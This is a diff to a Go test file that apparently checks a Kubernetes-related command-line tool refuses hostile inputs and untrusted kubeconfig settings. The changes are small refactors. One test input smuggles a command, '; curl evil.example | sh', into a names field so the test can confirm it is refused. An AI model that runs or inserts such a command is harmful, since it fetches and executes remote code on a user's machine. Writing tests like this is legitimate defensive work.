@@ -98,7 +98,8 @@ func TestNamesInCommands(t *testing.T) {
 	h.inNames = "; curl evil.example | sh"
 	for command, args := range asked(t, h) {
 		got := call(t, "", args...)
-		if command != "addons" && (got.Code != exitRefused || got.Out != "" || !strings.Contains(got.Err, "no API server of Kubernetes takes")) {
+		const says = "no API server of Kubernetes takes"
+		if command != "addons" && (got.Code != exitRefused || got.Out != "" || !strings.Contains(got.Err, says)) {
 			t.Errorf("%s: got %+v", command, got)
 		}
 	}
@@ -185,8 +186,8 @@ func TestListsWithoutEnd(t *testing.T) {
 	}
 }
 
-// TestKubeconfigsOfTenants: the kubeconfig of a Cluster runs nothing on the computer of whoever looks at the Cluster, reads no file
-// of it, and has nobody asked but the API server, by TLS.
+// TestKubeconfigsOfTenants: the kubeconfig of a Cluster runs nothing on the computer of whoever looks at the Cluster, reads no
+// file of it, and has nobody asked but the API server, by TLS.
 func TestKubeconfigsOfTenants(t *testing.T) {
 	h := newHostile(t, nil)
 	ran := filepath.Join(t.TempDir(), "ran")
@@ -209,8 +210,8 @@ func TestKubeconfigsOfTenants(t *testing.T) {
 		if field == "cluster.insecure-skip-tls-verify" {
 			config.Clusters["c"].CertificateAuthorityData = nil
 		}
-		args := []string{"check", "linux", "--kubeconfig", managedBy(t, expect.Got(clientcmd.Write(*config))(t)), "--cluster", "prod"}
-		got := call(t, "", args...)
+		kubeconfig := managedBy(t, expect.Got(clientcmd.Write(*config))(t))
+		got := call(t, "", "check", "linux", "--kubeconfig", kubeconfig, "--cluster", "prod")
 		if got.Code != exitRefused || !strings.Contains(got.Err, "the kubeconfig in Secret prod-kubeconfig is refused: "+field+" ") {
 			t.Errorf("%s: got %+v", field, got)
 		}
